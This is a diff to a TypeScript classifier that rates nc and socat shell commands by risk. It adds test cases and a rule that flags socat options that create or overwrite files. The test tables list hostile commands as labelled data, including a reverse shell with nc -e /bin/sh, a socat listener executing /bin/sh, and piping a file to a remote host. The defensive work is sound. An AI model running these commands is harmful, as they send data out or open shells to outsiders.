@@ -57,6 +57,9 @@ export const nc = program({
     "echo flush_all | nc mc1 11211": "dangerous",
     "echo kill | nc zk1 2181": "dangerous",
     "nc -e /bin/sh x.org 4444": "dangerous",
+    "cat f | nc x.org 99": "dangerous",
+    "printf 'stats\\r\\nquit\\r\\n' | nc mc1 11211": "safe",
+    "printf 'flush_all\\r\\n' | nc mc1 11211": "dangerous",
     "ncat x.org 4444 --sh-exec ls": "dangerous",
   },
   nearMisses: [
@@ -111,6 +114,8 @@ function judgeEnd(arg: Arg): Finding | undefined {
   const type = (address.split(":", 1)[0] ?? "").toLowerCase();
   if (runs.test(type)) return { risk: "dangerous", why: "connects a program or a device to the network", span: arg.span };
   if (listens.test(type)) return { risk: "caution", unbounded: true, why: "opens a port to which anybody may connect", span: arg.span };
+  if (opens.test(type) && options.some((option) => /^(creat|create|append|trunc|wronly|rdwr)/.test(option)))
+    return { risk: "dangerous", why: "writes what arrives into a file", span: arg.span };
   const connection = connects.test(type) || standard.test(type) || isSocketPath(address);
   if (!connection || opens.test(type)) return { risk: "unknown", why: "opens a file, or something that no table knows", span: arg.span };
   return options.every((option) => harmlessOptions.test(option.toLowerCase()))
@@ -154,6 +159,7 @@ export const socat = program({
     "socat -lf log -T 3 - TCP:db1:1": "caution",
     "echo 'shutdown sessions server web/s1' | socat stdio /var/run/haproxy.sock": "dangerous",
     "socat TCP-LISTEN:4444,reuseaddr EXEC:/bin/sh": "dangerous",
+    "socat -u TCP-LISTEN:9000 OPEN:f,creat": "dangerous",
     "socat -T 3 - FILE:/etc/passwd": "unknown",
   },
   nearMisses: [
